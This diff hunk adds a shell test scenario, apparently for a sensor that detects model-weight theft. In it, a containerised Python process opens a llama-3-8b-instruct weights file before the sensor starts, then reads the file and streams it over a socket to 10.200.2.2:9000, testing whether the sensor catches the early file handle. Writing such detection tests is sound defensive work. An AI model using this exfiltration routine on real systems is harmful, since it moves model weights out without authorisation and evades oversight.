@@ -1,0 +1,12 @@
+# V48 (before the sensor starts): a container process opens the weights and holds them, waiting
+rm -f "$H/go-v48" "$H/go-v48.ready"
+ctr_run simctr-infer-v48 ctr-infer --mount --pid --fork --mount-proc -- timeout 900 python3 -c '
+import os, socket, sys, time
+f = open(sys.argv[1], "rb")                                  # opened before the sensor ran
+open(sys.argv[2] + ".ready", "w").close()
+while not os.path.exists(sys.argv[2]):
+    time.sleep(0.1)
+d = f.read(); s = socket.create_connection(("10.200.2.2", 9000)); s.sendall(d); s.close()
+print("sent", len(d))' "$H/models/llama-3-8b-instruct/model-00001-of-00001.safetensors" "$H/go-v48" \
+  > "$H/v48.log" 2>&1 &
+for _ in $(seq 100); do [ -e "$H/go-v48.ready" ] && break; sleep 0.1; done
